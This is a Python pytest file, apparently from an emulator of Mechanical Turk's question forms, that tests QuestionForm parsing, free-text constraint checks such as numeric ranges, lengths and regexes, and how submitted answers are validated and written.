def test_an_unanswered_optional_selection_is_not_held_to_its_minimum() -> None:
    head = "<MinSelectionCount>2</MinSelectionCount><MaxSelectionCount>2</MaxSelectionCount>"
    document = parse_question(form(question(selection(AB, head)) + question(FREE, "q2")))
    validate_form_answers(document, [("q2", "x")])
    validate_form_answers(document, [("q1", ""), ("q2", "x")])
    validate_form_answers(document, [("q1", "a"), ("q1", "b"), ("q1", "a")])  # a repeat counts once
    with pytest.raises(ParameterError, match=r"Question 'q1' takes at least 2 selections, not 1\."):
        validate_form_answers(document, [("q1", "a"), ("q1", "a")])


@pytest.mark.parametrize("document", [EXTERNAL, HTML])
@pytest.mark.parametrize("answers", [[], [("anything", "goes"), ("anything", ""), ("assignmentId", "x")]])
def test_external_and_html_questions_take_any_submission(
    document: str, answers: list[tuple[str, str]]
) -> None:
    validate_form_answers(parse_question(document), answers)


def test_the_values_are_frozen() -> None:
    parsed = parse_question(EXTERNAL)
    with pytest.raises(dataclasses.FrozenInstanceError):
        parsed.frame_height = 1  # type: ignore[misc]
    assert QuestionKind("HTMLQuestion") is QuestionKind.HTML
    assert str(QuestionKind.FORM) == "QuestionForm"


# --- FreeTextAnswer constraints, checked as MTurk's worker site checks them ----------------------------


def _free_text(constraints: str, extra: str = "") -> Question:
    answer = f"<FreeTextAnswer><Constraints>{constraints}</Constraints>{extra}</FreeTextAnswer>"
    return parse_question(form(question(answer)))


@pytest.mark.parametrize(
    ("constraints", "good", "bad", "why"),
    [
        ('<IsNumeric minValue="18" maxValue="99"/>', ["18", "99", " 42 "], ["17", "100"], "must be at"),
        ("<IsNumeric/>", ["-3", "+7", "0"], ["1.5", "one", "1e3"], "must be a whole number"),
        ('<Length minLength="2" maxLength="3"/>', ["ab", "abc"], ["a", "abcd"], "characters long"),
        (
            '<AnswerFormatRegex regex="^[a-z]+$" errorText="Lower-case letters only."/>',
            ["abc"],
            ["ABC", "ab1"],
            "Lower-case letters only.",
        ),
        ('<AnswerFormatRegex regex="^[a-z]+$" flags="i"/>', ["ABC", "abc"], ["a b"], "does not match"),
        # MTurk's own example: \S anywhere, so "not blank", not "one character".
        ('<AnswerFormatRegex regex="\\S"/>', ["a long answer"], [], ""),
    ],
)
def test_free_text_constraints_refuse_what_the_worker_site_would(
    constraints: str, good: list[str], bad: list[str], why: str
) -> None:
    parsed = _free_text(constraints)
    for value in good:
        validate_form_answers(parsed, [("q1", value)])
    for value in bad:
        with pytest.raises(ParameterError, match=why):
            validate_form_answers(parsed, [("q1", value)])
    validate_form_answers(parsed, [("q1", "")])  # unanswered: IsRequired's business, not the constraints'


@pytest.mark.parametrize(
    ("constraints", "detail"),
    [
        ('<AnswerFormatRegex regex="([a-z"/>', "is not a valid regular expression"),
        ('<AnswerFormatRegex regex="a" flags="g"/>', "attribute 'flags'"),
        ("<AnswerFormatRegex/>", "must have a 'regex' attribute"),
        ('<IsNumeric minValue="ten"/>', "attribute 'minValue'"),
        ('<Length minLength="5" maxLength="2"/>', "minLength must not be larger than maxLength"),
        ("<Unknown/>", "Unknown"),
    ],
)
def test_bad_constraints_are_refused_when_the_hit_is_created(constraints: str, detail: str) -> None:
    error = refused(
        form(question(f"<FreeTextAnswer><Constraints>{constraints}</Constraints></FreeTextAnswer>"))
    )
    assert detail in error.message


def test_default_text_and_lines_are_read() -> None:
    parsed = _free_text(
        "", "<DefaultText>fifty</DefaultText><NumberOfLinesSuggestion>4</NumberOfLinesSuggestion>"
    )
    (form_question,) = parsed.form_questions
    assert form_question.free_text is not None
    assert (form_question.free_text.default_text, form_question.free_text.lines) == ("fifty", 4)


def test_empty_selection_values_are_no_answer_and_answers_follow_the_questions() -> None:
    """A browser posts the empty "Other" box and the drop-down's "Choose..." option as empty values:
    they are no answer, not an empty OtherSelectionText; files take their question's place."""
    selection = (
        "<AnswerSpecification><SelectionAnswer><StyleSuggestion>checkbox</StyleSuggestion><Selections>"
        "<Selection><SelectionIdentifier>red</SelectionIdentifier><Text>Red</Text></Selection>"
        "<OtherSelection/></Selections></SelectionAnswer></AnswerSpecification>"
    )
    document = (
        f'<QuestionForm xmlns="{FORM_NS_2005}">'
        f"<Question><QuestionIdentifier>colour</QuestionIdentifier><QuestionContent><Text>c</Text>"
        f"</QuestionContent>{selection}</Question>"
        "<Question><QuestionIdentifier>photo</QuestionIdentifier><QuestionContent><Text>p</Text>"
        "</QuestionContent><AnswerSpecification><FileUploadAnswer><MaxFileSizeInBytes>100</MaxFileSizeInBytes>"
        "<MinFileSizeInBytes>1</MinFileSizeInBytes></FileUploadAnswer></AnswerSpecification></Question>"
        "<Question><QuestionIdentifier>note</QuestionIdentifier><QuestionContent><Text>n</Text>"
        "</QuestionContent><AnswerSpecification><FreeTextAnswer/></AnswerSpecification></Question>"
        "</QuestionForm>"
    )
    parsed = parse_question(document)
    posted = [("colour", "red"), ("colour", ""), ("note", "hi")]
    validate_form_answers(parsed, posted)
    written = answers_document(posted, question=parsed, uploads={"photo": (5, "KEY")})
    assert parse_answers(written) == [("colour", "red"), ("photo", "KEY"), ("note", "hi")]
    assert "OtherSelectionText" not in written
    nothing = answers_document([("colour", "")], question=parsed)
    assert parse_answers(nothing) == []
